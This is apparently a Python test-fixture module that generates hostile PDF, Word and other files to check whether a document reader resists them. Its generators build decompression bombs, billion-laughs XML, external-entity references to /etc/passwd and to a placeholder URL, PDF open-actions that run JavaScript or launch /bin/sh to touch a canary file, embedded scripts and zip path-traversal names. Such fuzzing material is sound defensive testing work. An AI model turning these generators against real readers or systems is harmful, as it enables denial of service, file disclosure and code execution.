"""Documents made by hand: honest ones, and some that want to break, stall or use whoever reads
them. Every address in them is `lure`, every program would make the file `trap`.
"""

from __future__ import annotations

import codecs
import io
import random
import zipfile
import zlib
from collections.abc import Callable

WORDS = "I repair engines and teach my friends about bikes."
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MB = 2**20


def pdf(
    stream: bytes = b"",
    *,
    stream_entries: str = "",
    page: str = "",
    root: str = "",
    trailer: str = "",
    pages: str = "/Kids [3 0 R] /Count 1",
    more: tuple[bytes, ...] = (),
) -> bytes:
    """A PDF of one page that shows WORDS, or with something else in a part of it. `more` are
    objects from number 6 on.
    """
    stream = stream or shows(WORDS)
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {root} >>".encode(),
        f"<< /Type /Pages {pages} >>".encode(),
        (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R"
            f" /Resources << /Font << /F1 4 0 R >> >> {page} >>"
        ).encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        streamed(stream, stream_entries),
        *more,
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = f"trailer << /Size {len(objects) + 1} /Root 1 0 R {trailer} >>"
    return bytes(out) + end.encode() + b"\nstartxref\n%d\n%%%%EOF\n" % start


def shows(words: str) -> bytes:
    """The operators that write `words` on a page."""
    return f"BT /F1 12 Tf 50 800 Td ({words}) Tj ET".encode("latin-1")


def streamed(content: bytes, entries: str = "") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (
        len(content),
        entries.encode(),
        content,
    )


def flate(content: bytes, again: int = 1, times: int = 1) -> tuple[bytes, str]:
    """A stream of the content `again` and again, packed so many times, and its entries."""
    packer = zlib.compressobj(9)
    packed = b"".join([*(packer.compress(content) for _ in range(again)), packer.flush()])
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed, f"/Filter [{'/FlateDecode ' * times}]"


def docx(
    xml: bytes | str = "",
    *,
    others: dict[str, bytes] | None = None,
    name: str = "word/document.xml",
    packed: int = zipfile.ZIP_DEFLATED,
    again: int = 1,
) -> bytes:
    """A Word file of one paragraph that says WORDS, or with other XML, written `again` and again,
    or other members.
    """
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", packed) as archive:
        for other, data in (others or {}).items():
            archive.writestr(other, data)
        content = xml or body(paragraph(WORDS))
        with archive.open(name, "w") as member:
            for _ in range(again):
                member.write(content if isinstance(content, bytes) else content.encode())
    return file.getvalue()


def paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def body(inside: str, before: str = "") -> str:
    return f'{before}<w:document xmlns:w="{_W}"><w:body>{inside}</w:body></w:document>'


def bomb(times: int = 30) -> str:
    """The entities of a billion laughs."""
    rows = [f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, times)]
    return f"<!DOCTYPE d [<!ENTITY e0 'ha'>{''.join(rows)}]>"


def hostile(lure: str, trap: str) -> dict[str, Callable[[random.Random], bytes]]:
    """Kinds of hostile documents by name; each takes a source of chance for its sizes."""
    return {**_pdfs(lure, trap), **_broken_pdfs(), **_words(lure), **_others(lure)}


def _pdfs(lure: str, trap: str) -> dict[str, Callable[[random.Random], bytes]]:
    script = f"app.launchURL('{lure}'); this.exportDataObject({{cName:'a', nLaunch:2}});"
    run = f"/S /Launch /F (/bin/sh) /Win << /F (sh) /P (-c 'touch {trap}') >>"

    def flate_bomb(chance: random.Random, times: int) -> bytes:
        packed, entries = flate(b" " * _MB, chance.choice((40, 80, 160)), times)
        return pdf(packed, stream_entries=entries)

    def cycle(chance: random.Random) -> bytes:
        kids = " ".join(["2 0 R"] * chance.randint(1, 9) + ["3 0 R"])
        return pdf(pages=f"/Kids [{kids}] /Count 9")

    def chain(chance: random.Random) -> bytes:
        """Pages within pages, so deep that whoever follows them by calling itself stops."""
        depth = chance.choice((500, 5_000, 20_000))
        more = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (i + 7) for i in range(depth)]
        return pdf(pages="/Kids [6 0 R] /Count 1", more=(*more, b"<< /Type /Page >>"))

    def many_pages(chance: random.Random) -> bytes:
        kids = "3 0 R " * chance.choice((10_000, 100_000, 300_000))
        return pdf(pages=f"/Kids [{kids}] /Count 300000")

    def form_cycle(chance: random.Random) -> bytes:
        form = streamed(
            b"/X0 Do " * chance.randint(1, 5) + shows("again"),
            "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X0 6 0 R >>"
            " /Font << /F1 4 0 R >> >>",
        )
        page = "/Resources << /XObject << /X0 6 0 R >> /Font << /F1 4 0 R >> >>"
        return pdf(b"/X0 Do", page=page, more=(form,)).replace(
            b"/Resources << /Font << /F1 4 0 R >> >> /R", b"/R"
        )

    def form_laughs(chance: random.Random) -> bytes:
        """Forms that show others ten times: a billion of the last."""
        depth = chance.randint(6, 9)
        forms = tuple(
            streamed(
                b"/X Do " * 10 if i < depth - 1 else shows("ha"),
                f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject <<"
                f" /X {7 + i} 0 R >> /Font << /F1 4 0 R >> >>",
            )
            for i in range(depth)
        )
        page = "/Resources << /XObject << /X 6 0 R >> /Font << /F1 4 0 R >> >>"
        return pdf(b"/X Do", page=page, more=forms).replace(
            b"/Resources << /Font << /F1 4 0 R >> >> /R", b"/R"
        )

    def operators(chance: random.Random) -> bytes:
        one = chance.choice((b"q ", b"BT ", b"(a) Tj ", b"1 0 0 1 0 0 cm ", b"[(a) -9 (b)] TJ "))
        packed, entries = flate(b"BT /F1 12 Tf " + one * (chance.choice((5, 20)) * _MB // len(one)))
        return pdf(packed, stream_entries=entries)

    def wide_map(chance: random.Random) -> bytes:
        ranges = b"<0000> <FFFF> <0041>\n" * chance.choice((1, 100, 5_000))
        packed, entries = flate(b"begincmap 100 beginbfrange\n" + ranges + b"endbfrange endcmap")
        font = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 7 0 R"
        page = "/Resources << /Font << /F1 6 0 R >> >>"
        font += b" /DescendantFonts [8 0 R] >>"
        widths = b"<< /Type /Font /Subtype /CIDFontType2 /W [0 4294967295 500] /DW 1000 >>"
        return pdf(page=page, more=(font, streamed(packed, entries), widths)).replace(
            b"/Resources << /Font << /F1 4 0 R >> >> /R", b"/R"
        )

    def fonts(chance: random.Random) -> bytes:
        packed, entries = flate(chance.randbytes(100) * 200_000)
        descriptor = b"<< /Type /FontDescriptor /FontFile2 7 0 R /FontFile3 7 0 R >>"
        font = b"<< /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor 6 0 R >>"
        page = "/Resources << /Font << /F1 8 0 R >> >>"
        return pdf(page=page, more=(descriptor, streamed(packed, entries), font)).replace(
            b"/Resources << /Font << /F1 4 0 R >> >> /R", b"/R"
        )

    def predictor(chance: random.Random) -> bytes:
        packed, entries = flate(b"\2" * _MB, chance.choice((1, 20)))
        columns = chance.choice((1, 2**31, -5))
        return pdf(
            packed,
            stream_entries=f"{entries} /DecodeParms << /Predictor 12 /Columns {columns} >>",
        )

    def stored_elsewhere(chance: random.Random) -> bytes:
        return pdf(
            stream_entries=f"/F << /FS /URL /F ({lure}) >> /FFilter /FlateDecode",
            page=f"/Annots [<< /Subtype /Link /A << /S /URI /URI ({lure}) >> >>]"
            f" /AA << /O << /S /GoToR /F (\\\\\\\\{lure.split('/')[2]}\\\\a) >> >>",
            root=f"/OpenAction << /S /SubmitForm /F ({lure}) >>",
        )

    return {
        "pdf: opens with JavaScript": lambda _: pdf(
            root=f"/OpenAction << /S /JavaScript /JS ({script}) >> /Names << /JavaScript"
            f" << /Names [(a) << /S /JavaScript /JS ({script}) >>] >> >>"
        ),
        "pdf: opens a program": lambda _: pdf(
            root=f"/OpenAction << {run} >>", page=f"/AA << /O << {run} >> >>"
        ),
        "pdf: a file inside": lambda _: pdf(
            root="/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 6 0 R >> >>] >> >>",
            more=(streamed(f"#!/bin/sh\ntouch {trap}\n".encode(), "/Type /EmbeddedFile"),),
        ),
        "pdf: XFA form": lambda _: pdf(
            root="/AcroForm << /XFA 6 0 R /Fields [6 0 R] >>",
            more=(streamed(f'{bomb()}<x href="{lure}">&e9;</x>'.encode()),),
        ),
        "pdf: streams elsewhere": stored_elsewhere,
        "pdf: a bomb": lambda chance: flate_bomb(chance, 1),
        "pdf: a bomb in a bomb": lambda chance: flate_bomb(chance, chance.randint(2, 9)),
        "pdf: many filters": lambda chance: pdf(
            stream_entries=f"/Filter [{'/ASCIIHexDecode ' * chance.choice((100, 10_000))}]"
        ),
        "pdf: run lengths": lambda _: pdf(
            b"\x81 " * 700_000, stream_entries="/Filter /RunLengthDecode"
        ),
        "pdf: LZW": lambda chance: pdf(
            chance.randbytes(500_000), stream_entries="/Filter /LZWDecode"
        ),
        "pdf: a predictor": predictor,
        "pdf: cyclic pages": cycle,
        "pdf: pages within pages": chain,
        "pdf: endless pages": many_pages,
        "pdf: a form that shows itself": form_cycle,
        "pdf: a billion forms": form_laughs,
        "pdf: endless operators": operators,
        "pdf: huge maps of letters": wide_map,
        "pdf: huge fonts": fonts,
        "pdf: contents without end": lambda chance: pdf(
            page=f"/Contents [{'5 0 R ' * chance.choice((100, 10_000, 300_000))}]"
        ).replace(b"/Contents 5 0 R", b""),
    }


def _broken_pdfs() -> dict[str, Callable[[random.Random], bytes]]:
    def spoilt(chance: random.Random) -> bytes:
        content = bytearray(pdf())
        for _ in range(chance.randint(1, 40)):
            content[chance.randrange(8, len(content))] = chance.randrange(256)
        return bytes(content)

    def prev(chance: random.Random) -> bytes:
        """A table of places that names itself as the one before it."""
        content = pdf()
        place = content.rindex(b"xref\n0")
        return content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)

    def xref_stream(chance: random.Random) -> bytes:
        size = chance.choice((10**6, 2**31, 10**12))
        packed, entries = flate(bytes(chance.choice((100, 20 * _MB))))
        one = streamed(packed, f"/Type /XRef /Size {size} /W [1 4 2] /Root 1 0 R {entries}")
        content = pdf().rpartition(b"xref\n0")[0]
        return content + b"9 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF" % (one, len(content))

    def object_streams(chance: random.Random) -> bytes:
        """A stream of objects that says that it lies in itself."""
        inner = streamed(b"5 0 << >>", "/Type /ObjStm /N 100000000 /First 4 /Extends 6 0 R")
        return pdf(root="/Extra 6 0 R", more=(inner,)).replace(b"startxref", b"startxref\n0\n")

    def deep(chance: random.Random) -> bytes:
        depth = chance.choice((900, 20_000, 500_000))
        opened = chance.choice((b"[", b"<< /A "))
        return pdf(more=(opened * depth,), root="/Extra 6 0 R")

    return {
        "pdf: flipped bytes": spoilt,
        "pdf: cut off": lambda chance: pdf()[: chance.randrange(9, len(pdf()) - 1)],
        "pdf: places that lie": lambda chance: pdf().replace(
            b"0000000", b"%07d" % chance.randrange(10**7)
        ),
        "pdf: a table before itself": prev,
        "pdf: a table as a stream": xref_stream,
        "pdf: objects in themselves": object_streams,
        "pdf: brackets in brackets": deep,
        "pdf: lengths that lie": lambda chance: pdf().replace(
            b"/Length", b"/Length %d /L" % chance.choice((10**12, -1, 5))
        ),
        "pdf: a length that is itself": lambda _: pdf().replace(b"/Length", b"/Length 5 0 R /Was"),
        "pdf: a parent that is itself": lambda _: pdf(page="/Parent 3 0 R").replace(
            b"/Parent 2 0 R", b""
        ),
        "pdf: a password": lambda chance: pdf(
            trailer=f"/Encrypt << /Filter /Standard /V {chance.choice((1, 2, 4, 5))} /R"
            f" {chance.choice((2, 3, 6))} /Length 128 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >>"
            f" /ID [<{'43' * 16}> <{'43' * 16}>]"
        ),
        "pdf: its head alone": lambda chance: b"%PDF-1.7\n" + chance.randbytes(2_000),
        "pdf: the head and spaces": lambda _: b"%PDF-1.7\n" + b" \n" * (_MB - 100),
        "pdf: objects without end": lambda _: b"%PDF-1.7\n" + b"1 0 obj\n<<" * 170_000,
        "pdf: a number of many digits": lambda _: pdf(root=f"/A {'9' * 1_000_000}"),
    }


def _words(lure: str) -> dict[str, Callable[[random.Random], bytes]]:
    def big(chance: random.Random) -> bytes:
        row = paragraph("work " * 200)
        return docx(body(row * (chance.choice((5, 18, 30)) * _MB // len(row))))

    def external(chance: random.Random) -> bytes:
        kind = chance.choice(("attachedTemplate", "image", "oleObject", "frame", "hyperlink"))
        relation = (
            f'<Relationships><Relationship Id="r1" Type="{_R}/{kind}" Target="{lure}"'
            ' TargetMode="External"/></Relationships>'
        )
        linked = f'<w:hyperlink xmlns:r="{_R}" r:id="r1">{paragraph(WORDS)}</w:hyperlink>'
        return docx(
            body(f'{linked}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{lure}"/>'),
            others={"word/_rels/document.xml.rels": relation.encode()},
        )

    def declared(chance: random.Random) -> bytes:
        codec = chance.choice(("utf-8", "utf-16", "utf-16-be"))
        mark = codecs.BOM_UTF16_BE if codec == "utf-16-be" else b""
        before = chance.choice(
            (
                bomb(),
                f'<!DOCTYPE d SYSTEM "{lure}">',
                f'<!DOCTYPE d [<!ENTITY e9 SYSTEM "{lure}">]>',
                "<!DOCTYPE d [<!ENTITY e9 SYSTEM 'file:///etc/passwd'>]>",
                f"<!DOCTYPE d [<!ENTITY % p SYSTEM '{lure}'> %p;]>",
                f"<!DOCTYPE d [<!ENTITY e9 '{'ha' * 50_000}'>]>",
            )
        )
        used = "&e9;" * chance.choice((1, 20_000)) if "e9" in before else ""
        return docx(mark + body(paragraph(WORDS + used), before).encode(codec))

    def nested(chance: random.Random) -> bytes:
        inner = bytes(20 * _MB)
        for level in range(chance.randint(2, 6)):
            inner = docx(others={f"{level}.zip": inner})
        return docx(others={"word/embeddings/a.zip": inner})

    def members(chance: random.Random) -> bytes:
        return docx(others={f"{i}": b"" for i in range(chance.choice((1_000, 17_000)))})

    def names(chance: random.Random) -> bytes:
        name = chance.choice(("../../../tmp/x", "/etc/x", "C:\\x", "word/document.xml/", "a\0b"))
        return docx(others={name: b"x"})

    def deep(chance: random.Random) -> bytes:
        depth = chance.choice((1_000, 100_000, 700_000))
        return docx(body("<w:p>" * depth + WORDS + "</w:p>" * depth))

    def attributes(chance: random.Random) -> bytes:
        many = " ".join(f'a{i}="1"' for i in range(chance.choice((1_000, 300_000))))
        return docx(body(f"<w:p {many}>{paragraph(WORDS)}</w:p>"))

    def spoilt(chance: random.Random) -> bytes:
        content = bytearray(docx(others={"a": b"b" * 500}))
        for _ in range(chance.randint(1, 30)):
            content[chance.randrange(4, len(content))] = chance.randrange(256)
        return bytes(content)

    def sizes(chance: random.Random) -> bytes:
        """The zip's own list says that a member is small."""
        content = docx(body(paragraph("work " * 6 * _MB)))
        size = len(body(paragraph("work " * 6 * _MB))).to_bytes(4, "little")
        return content.replace(size, (100).to_bytes(4, "little"))

    def encrypted(chance: random.Random) -> bytes:
        content = bytearray(docx())
        for mark, place in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
            content[content.index(mark) + place] |= 1
        return bytes(content)

    return {
        "docx: a bomb": lambda chance: docx(b" " * _MB, again=chance.choice((21, 100, 400))),
        "docx: long": big,
        "docx: packed by LZMA": lambda _: docx(b" " * _MB, packed=zipfile.ZIP_LZMA, again=100),
        "docx: packed by bzip2": lambda _: docx(b" " * _MB, packed=zipfile.ZIP_BZIP2, again=100),
        "docx: zips in zips": nested,
        "docx: very many members": members,
        "docx: members elsewhere": names,
        "docx: external references": external,
        "docx: a document type": declared,
        "docx: elements in elements": deep,
        "docx: very many attributes": attributes,
        "docx: flipped bytes": spoilt,
        "docx: cut off": lambda chance: docx()[: chance.randrange(4, len(docx()) - 1)],
        "docx: sizes that lie": sizes,
        "docx: a password": encrypted,
        "docx: no document": lambda _: docx(name="xl/workbook.xml"),
        "docx: broken XML": lambda chance: docx(
            body(paragraph(WORDS))[: chance.randrange(1, 200)] + chance.choice("<&\x00\ufffe")
        ),
        "docx: another encoding": lambda chance: docx(
            f'<?xml version="1.0" encoding="{chance.choice(("utf-7", "zip", "x", "rot13"))}"?>'
            + body(paragraph(WORDS))
        ),
        "docx: macros": lambda _: docx(
            others={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0", "word/activeX1.xml": b"<a/>"}
        ),
    }


def _others(lure: str) -> dict[str, Callable[[random.Random], bytes]]:
    return {
        "too large": lambda chance: chance.choice((pdf(), docx(), b"I cook. ")) + b" " * 2 * _MB,
        "nothing": lambda chance: b" \n\t"[: chance.randrange(4)],
        "an old Word file": lambda chance: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9_000),
        "rich text": lambda _: rb"{\rtf1{\object\objdata 0105}" + WORDS.encode() + b"}",
        "a web page": lambda _: f"<html><script src='{lure}'></script></html>".encode(),
        "a program": lambda chance: b"\x7fELF\2\1\1" + chance.randbytes(5_000),
        "a picture": lambda chance: b"\x89PNG\r\n\x1a\n" + chance.randbytes(5_000),
        "a packed file": lambda _: zlib.compress(bytes(_MB), 9, wbits=31),
        "chance": lambda chance: chance.randbytes(chance.choice((10, 5_000, 2 * _MB))),
        "a line of 2 MB": lambda chance: chance.choice((b"a", b"\xe9", b"\x81")) * (2 * _MB),
        "lines without end": lambda chance: chance.choice((b"\n", b"\r", b"\xe9\n", b"\0\n")) * _MB,
        "marks upon marks": lambda _: ("a" + "\u0301" * 500_000).encode(),
        "a letter of many": lambda _: ("\ufdfa" * 600_000).encode(),
        "halves of letters": lambda _: ("\ud800" * 600_000).encode("utf-8", "surrogatepass"),
    }
